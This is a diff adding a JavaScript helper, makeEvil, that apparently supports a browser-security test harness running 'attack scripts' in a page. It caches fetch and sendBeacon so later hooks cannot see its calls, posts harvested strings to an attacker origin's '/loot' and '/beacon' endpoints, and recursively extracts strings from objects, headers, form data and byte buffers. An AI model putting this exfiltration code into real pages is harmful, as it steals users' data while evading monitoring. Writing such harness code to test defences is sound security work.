@@ -1,0 +1,60 @@
+/**
+ * Runs in the page, before each attack script: what a script has that works for the server at `origin`. It keeps the
+ * functions that it needs, so that hooks which are set later don't see the attacker's own calls.
+ */
+export function makeEvil(origin) {
+  const { fetch, Blob, Promise, ArrayBuffer, Uint8Array, Headers, URLSearchParams, FormData, Map, Set } = globalThis;
+  const { ownKeys, apply } = Reflect;
+  const { stringify } = JSON;
+  const { sendBeacon } = Navigator.prototype;
+  const kinds = [Headers, URLSearchParams, FormData, Map, Set];
+  const accessors = ["url", "message", "stack", "href", "headers", "origin", "detail", "data", "reason"];
+  const under = [];
+
+  /** Sends text, or anything else as JSON, to the attacker. */
+  const post = (value) => {
+    const body = typeof value === "string" ? value : (stringify(value) ?? "");
+    const sending = fetch(`${origin}/loot`, { method: "POST", mode: "no-cors", body });
+    under[under.length] = sending;
+    return sending;
+  };
+
+  const beacon = (value) => apply(sendBeacon, navigator, [`${origin}/beacon`, new Blob([stringify(value)])]);
+
+  /** Resolves when all that was posted has arrived. */
+  const settled = () => Promise.allSettled(under);
+
+  /** Every string in a value, bytes as latin1. */
+  const strings = (value, found = [], known = new Set(), depth = 0) => {
+    if (typeof value === "string") found[found.length] = value;
+    if (typeof value !== "object" || value === null || known.has(value) || depth > 8) return found;
+    known.add(value);
+    if (value instanceof ArrayBuffer) return push(found, latin1(new Uint8Array(value)));
+    if (ArrayBuffer.isView(value)) return push(found, latin1(new Uint8Array(value.buffer, value.byteOffset, value.byteLength)));
+    if (kinds.some((kind) => value instanceof kind)) for (const item of value) strings(item, found, known, depth + 1);
+    for (const name of accessors) strings(read(value, name), found, known, depth + 1);
+    for (const name of ownKeys(value)) {
+      if (typeof name === "string") push(found, name);
+      strings(read(value, name), found, known, depth + 1);
+    }
+    return found;
+  };
+
+  const push = (list, item) => ((list[list.length] = item), list);
+
+  const latin1 = (bytes) => {
+    let text = "";
+    for (let at = 0; at < bytes.length; at += 8192) text += apply(String.fromCharCode, null, bytes.subarray(at, at + 8192));
+    return text;
+  };
+
+  const read = (object, name) => {
+    try {
+      return object[name];
+    } catch {
+      return undefined;
+    }
+  };
+
+  return { origin, post, beacon, settled, strings, latin1, read };
+}
